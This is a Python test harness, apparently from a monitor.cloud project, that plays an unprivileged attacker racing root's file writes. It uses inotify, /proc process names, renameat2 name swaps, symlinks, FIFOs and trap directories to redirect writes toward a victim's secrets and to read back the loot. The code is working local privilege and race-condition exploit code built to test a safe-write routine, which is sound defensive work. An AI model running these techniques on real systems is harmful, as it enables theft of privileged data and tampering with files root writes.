# Copyright (c) 2026 monitor.cloud contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""An unprivileged user who owns a directory that root writes to, and swaps names there while root writes.

It learns of new names by inotify, and of the later steps by the names of the running processes, then puts a decoy at
the name that root uses next. Runs on its own: no imports but Python's library.
"""

import contextlib
import ctypes
import dataclasses
import json
import os
import select
import struct
import sys
import time

_CREATED = 0x100
_AT_FDCWD, _EXCHANGE, _NEWNS, _NEWUSER = -100, 2, 0x20000, 0x10000000
_LIBC = ctypes.CDLL(None, use_errno=True)
# Processes by which each step after the first new name is recognised.
_PROCESSES = {
    "content": ("cat", "dd"),
    "owner": ("chown",),
    "mode": ("chmod",),
    "backup": ("ln", "cp"),
    "move": ("mv",),
    "clean-up": ("rm", "rmdir"),
}
# No process has the number.
LEFTOVER = ".agent.conf.writing-99999999-aB3dE6gH"
_DECOY = "decoy"
# Symbolic links to the victims' directory, or to what is in there.
_LINKS = {"link": "secret", "victims": "", "empty victims": "empty"}
_READ = os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW
_TURN = 0.0001
# Ten times as long as a writer needs on a busy machine; it takes a processor that others need.
_ACTIVE = 1.0


@dataclasses.dataclass(frozen=True)
class Plan:
    """One attack: when (``step``), which name is replaced (``target``), by what (``decoy``), once or in turns.

    ``target``: entry (the temporary one), leftover (one of a killed writer), name (the file), both, directory, or
    parent (the one that is made). ``name`` is the file's path within the directory.
    """

    step: str
    target: str
    decoy: str
    turns: bool
    base: str
    directory: str
    name: str
    victim: str

    def decoy_path(self, number: int) -> str:
        """Where a decoy is, in the directory that the attacker changes."""
        where = self.base if self.target in ("directory", "parent") else self.directory
        return os.path.join(where, f"{_DECOY}-{number}")


class Attack:
    """A plan that is under way."""

    def __init__(self, plan: Plan, events: int) -> None:
        self.plan = plan
        self.begun = False
        self._opened: list[int] = []
        self._entry = ""
        self._since = 0.0
        self._events = events
        self._trap = -1, -1
        self._watches = {self._watch(path) for path in (plan.base, plan.directory) if os.path.exists(path)}
        self._make(plan.decoy_path(1), plan.decoy)
        if plan.target == "both":
            self._make(plan.decoy_path(2), "link")

    def _watch(self, path: str) -> int:
        return int(_LIBC.inotify_add_watch(self._events, os.fsencode(path), _CREATED))

    def _open(self, path: str, flags: int = _READ) -> None:
        with contextlib.suppress(OSError):
            self._opened.append(os.open(path, flags, 0o666))

    def _make(self, path: str, kind: str) -> None:
        if kind in _LINKS:
            os.symlink(os.path.join(self.plan.victim, _LINKS[kind]), path)
        elif kind == "own":
            self._open(path, os.O_RDWR | os.O_CREAT)
        elif kind == "fifo":
            os.mkfifo(path)
            self._open(path, os.O_RDWR | os.O_NONBLOCK)
        else:
            os.mkdir(path)
            if kind == "trap":
                # Empty, as a new directory is; what is made in there is replaced.
                self._open(path)
                self._trap = self._watch(path), self._opened[-1]
                self._make(self.plan.decoy_path(0), "link")
            else:
                for file in (os.path.basename(self.plan.name), "old", "copy"):
                    self._make(os.path.join(path, file), "link" if kind == "links" else "own")

    def run(self, control: int) -> None:
        """Attack until there is something to read from ``control``."""
        if self.plan.target == "leftover" or self.plan.step in ("removal", "appearance at once"):
            self._strike()
        while True:
            active = self._since and time.monotonic() - self._since < _ACTIVE
            busy = active and (self.plan.turns if self.begun else self.plan.step in _PROCESSES)
            ready = select.select([self._events, control], [], [], _TURN if busy else None)[0]
            if control in ready:
                return
            if self._events in ready:
                self._read()
            if busy and (self.begun or self._runs()):
                self._strike()

    def _read(self) -> None:
        data = os.read(self._events, 65536)
        while data:
            watch, _mask, _cookie, length = struct.unpack_from("iIII", data)
            name, data = os.fsdecode(data[16 : 16 + length].rstrip(b"\0")), data[16 + length :]
            if watch == self._trap[0]:
                _exchange(self.plan.decoy_path(0), name, self._trap[1])
            # Others are of the attack before, or about a watch that ended.
            elif watch in self._watches and name and not name.startswith(_DECOY):
                self._see(os.path.join(self.plan.directory, name))

    def _see(self, path: str) -> None:
        self._since = self._since or time.monotonic()
        if os.path.basename(path).startswith("."):
            self._entry = path
        self._open(path)
        if not self.begun and self.plan.step not in _PROCESSES:
            self._strike()

    def _runs(self) -> bool:
        for process in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError), open(f"/proc/{process}/comm", encoding="utf-8") as file:
                if file.read().strip() in _PROCESSES[self.plan.step]:
                    return True
        return False

    def _strike(self) -> None:
        self.begun, self._since = True, self._since or time.monotonic()
        file = os.path.join(self.plan.directory, self.plan.name)
        targets = {
            "entry": [self._entry],
            "leftover": [os.path.join(self.plan.directory, LEFTOVER)],
            "name": [file],
            "both": [self._entry, file],
        }
        for number, target in enumerate(targets.get(self.plan.target, [self.plan.directory]), 1):
            if target:
                _exchange(self.plan.decoy_path(number), target)

    def loot(self, root: str) -> str:
        """All that the attacker can read by now."""
        for directory, _directories, files in os.walk(root):
            for file in files:
                self._open(os.path.join(directory, file))
        found = []
        for descriptor in self._opened:
            # A FIFO has no position.
            with contextlib.suppress(OSError):
                os.lseek(descriptor, 0, os.SEEK_SET)
            with contextlib.suppress(OSError):
                found.append(os.read(descriptor, 65536))
            os.close(descriptor)
        for watch in (*self._watches, self._trap[0]):
            _LIBC.inotify_rm_watch(self._events, watch)
        return b"\n".join(found).decode(errors="replace")


def _exchange(one: str, other: str, directory: int = _AT_FDCWD) -> None:
    """Swap two names in one step, the other in the directory given; a name that is missing is taken by a move."""
    names = _AT_FDCWD, os.fsencode(one), directory, os.fsencode(other)
    if _LIBC.renameat2(*names, _EXCHANGE) != 0:
        _LIBC.renameat2(*names, 0)


def serve(control: int) -> None:
    """Attack as each line of the control requires; at the next line, report whether, and what could be read."""
    # One for all attacks: to close it takes longer than a writer needs.
    events = int(_LIBC.inotify_init1(os.O_NONBLOCK))
    with open(control, encoding="utf-8", closefd=False) as lines:
        while line := lines.readline():
            given = json.loads(line)
            attack = Attack(Plan(**given["plan"]), events)
            print("ready", flush=True)
            attack.run(control)
            lines.readline()
            print(json.dumps([attack.begun, attack.loot(given["root"])]), flush=True)


if __name__ == "__main__":
    # Decoys have the modes 0777 and 0666.
    os.umask(0)
    if "elder" in sys.argv:
        # Keeps the mounts as they are now: what is mounted later does not keep this process from moving a name.
        _LIBC.unshare(_NEWUSER | _NEWNS)
        print("ready", flush=True)
    serve(sys.stdin.fileno())
